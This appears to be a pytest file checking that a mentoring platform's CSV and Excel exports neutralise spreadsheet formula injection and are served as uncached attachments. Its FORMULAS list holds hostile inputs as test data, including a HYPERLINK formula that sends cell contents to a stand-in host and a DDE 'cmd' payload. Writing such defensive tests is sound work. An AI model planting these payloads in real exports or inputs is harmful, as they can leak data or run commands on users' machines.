"""A downloaded table holds what people typed, and a spreadsheet runs none of it."""

import csv
import io
import zipfile

import pytest

from mentoring_platform.export import table_file

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
HARMLESS = ["Noora", "a=b", "1-2", "noora@lakeland.example", "'quoted", "", "–", 'Åsa; Björn, "x"']


def cell_of(text):
    """What a spreadsheet reads in the first cell below the heading."""
    answer = table_file("x", "csv", ["Name"], [[text, "end"]])
    file = io.StringIO(answer.content.decode("utf-8-sig"), newline="")
    return list(csv.reader(file))[1][0]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_begins_a_formula(text):
    assert cell_of(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert cell_of(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "https://evil.example", "{=1+1}"])
def test_cells_of_an_excel_file_are_text(text):
    answer = table_file("x", "xlsx", ["Name"], [[text]])

    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
        links = [name for name in archive.namelist() if "rels" in name and "sheet1" in name]
    assert "<f>" not in sheet
    assert sheet.count('t="s"') == 2
    assert links == []
    assert "evil.example" in strings or "evil" not in text


def test_downloads_are_attachments_that_nobody_keeps():
    answer = table_file("people-7", "csv", ["Name"], [["Noora"]])

    assert answer["Content-Disposition"] == 'attachment; filename="people-7.csv"'
    assert answer["Cache-Control"] == "private, no-store"
